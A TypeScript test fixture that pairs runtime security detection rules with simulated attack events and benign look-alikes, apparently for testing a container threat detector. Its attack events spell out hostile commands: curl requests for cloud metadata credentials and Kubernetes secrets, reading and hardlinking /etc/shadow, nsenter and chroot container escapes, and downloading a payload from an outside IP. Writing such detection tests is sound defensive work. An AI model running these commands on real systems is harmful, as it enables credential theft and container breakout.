import { inPod, onHost, PERSON, type AttackCase } from './attack-case.ts'

const METADATA = { 'fd.name': '10.0.0.5:40000->169.254.169.254:80', 'fd.rport': 80 }
const API = { 'fd.name': '10.0.0.5:40000->10.96.0.1:443' }
const AGENT = { 'container.image.repository': 'docker.io/grafana/promtail' }

export const ATTACK_CASES: readonly AttackCase[] = [
  {
    rule: 'Adding ssh keys to authorized_keys',
    attack: onHost('/usr/bin/redis-server', 'redis-server', 'systemd', {
      'fd.name': '/root/.ssh/authorized_keys',
    }),
    usual: onHost('/usr/bin/python3.12', 'cloud-init /usr/bin/cloud-init init', 'systemd', {
      'proc.name': 'cloud-init',
      'fd.name': '/root/.ssh/authorized_keys',
    }),
  },
  {
    rule: 'Backdoored library loaded into SSHD (CVE-2024-3094)',
    attack: onHost('/usr/sbin/sshd', 'sshd -D', 'systemd', {
      'fd.name': '/usr/lib/x86_64-linux-gnu/liblzma.so.5.6.1',
    }),
    usual: inPod('/usr/sbin/sshd', 'sshd -D', 'containerd-shim', {
      'fd.name': '/usr/lib/x86_64-linux-gnu/liblzma.so.5.6.1',
    }),
  },
  {
    rule: 'Basic Interactive Reconnaissance',
    attack: inPod('/usr/bin/whoami', 'whoami', 'bash', {
      'proc.tty': '34816',
      'user.name': 'www-data',
    }),
    usual: onHost('/usr/bin/id', 'id', 'bash', PERSON),
  },
  {
    rule: 'BPF Program Not Profiled',
    attack: inPod('/tmp/.x/loader', 'loader', 'bash'),
    usual: onHost('/usr/lib/systemd/systemd', 'systemd', 'systemd'),
  },
  {
    rule: 'Change namespace privileges via unshare',
    attack: inPod('/usr/bin/unshare', 'unshare -Urm', 'bash', { 'evt.res': 'SUCCESS' }),
    usual: inPod('/opt/chrome/chrome', 'chrome --headless', 'node', { 'evt.res': 'SUCCESS' }),
  },
  {
    rule: 'Change thread namespace',
    attack: inPod('/usr/bin/nsenter', 'nsenter --target 1 --mount -- bash', 'bash'),
    usual: onHost('/usr/bin/crun', 'crun start 1', 'conmon'),
  },
  {
    rule: 'Clear Log Activities',
    attack: onHost('/usr/bin/bash', 'bash', 'sshd', { 'fd.name': '/var/log/auth.log' }),
    usual: inPod('/usr/sbin/nginx', 'nginx', 'containerd-shim', {
      'fd.name': '/var/log/access_log',
    }),
  },
  {
    rule: 'Contact cloud metadata service from container',
    attack: inPod(
      '/usr/bin/curl',
      'curl http://169.254.169.254/metadata/identity/oauth2/token',
      'sh',
      METADATA,
    ),
    usual: inPod('/app/server', 'server', 'containerd-shim', METADATA),
  },
  {
    rule: 'Contact EC2 Instance Metadata Service From Container',
    attack: inPod(
      '/usr/bin/curl',
      'curl http://169.254.169.254/latest/meta-data/iam/security-credentials/',
      'sh',
      METADATA,
    ),
    usual: inPod('/app/server', 'server', 'containerd-shim', METADATA),
  },
  {
    rule: 'Contact K8S API Server From Container',
    attack: inPod(
      '/usr/bin/curl',
      'curl -H Authorization: Bearer eyJ https://10.96.0.1/api/v1/secrets',
      'sh',
      API,
    ),
    usual: inPod('/manager', 'manager --leader-elect', 'containerd-shim', API),
  },
  {
    rule: 'Container Access to Host Sensitive Paths',
    attack: inPod('/bin/cat', 'cat /host/etc/shadow', 'sh', { 'fd.name': '/host/etc/shadow' }),
    usual: inPod('/usr/bin/promtail', 'promtail', 'containerd-shim', {
      ...AGENT,
      'fd.name': '/host/var/log/pods/a.log',
    }),
  },
  {
    rule: 'Container Drift Detected (chmod)',
    attack: inPod('/bin/chmod', 'chmod 755 /tmp/x', 'sh', {
      'evt.arg.filename': '/tmp/x',
      'evt.arg.mode': 'S_IXUSR|S_IRUSR',
    }),
    usual: inPod('/bin/chmod', 'chmod 755 /srv/start', 'containerd-shim', {
      'evt.arg.filename': '/srv/start',
      'evt.arg.mode': 'S_IXUSR|S_IRUSR',
    }),
  },
  {
    rule: 'Container Drift Detected (open+create)',
    attack: inPod('/usr/bin/curl', 'curl -o /srv/x http://198.51.100.7/x', 'sh', {
      'evt.arg.name': '/srv/x',
    }),
    usual: inPod('/usr/bin/java', 'java -jar a.jar', 'containerd-shim', {
      'evt.arg.name': '/tmp/libnetty1.so',
    }),
  },
  {
    rule: 'Container Run as Root User',
    attack: inPod('/usr/sbin/chroot', 'chroot /host sh', 'containerd-shim'),
    usual: inPod('/usr/sbin/nginx', 'nginx -g daemon off;', 'containerd-shim'),
  },
  {
    rule: 'Create files below dev',
    attack: onHost('/usr/sbin/sshd', 'sshd', 'systemd', { 'fd.name': '/dev/.lib' }),
    usual: onHost('/usr/bin/bash', 'bash backup.sh', 'cron', { 'fd.name': '/dev/nulll' }),
  },
  {
    rule: 'Create Hardlink Over Sensitive Files',
    attack: onHost('/usr/bin/ln', 'ln /etc/shadow /tmp/s', 'bash', {
      'evt.arg.oldpath': '/etc/shadow',
      'evt.arg.newpath': '/tmp/s',
    }),
    usual: onHost('/usr/bin/dpkg', 'dpkg --configure -a', 'apt', {
      'evt.arg.oldpath': '/etc/pam.conf',
      'evt.arg.newpath': '/etc/pam.conf.dpkg-old',
    }),
  },
]
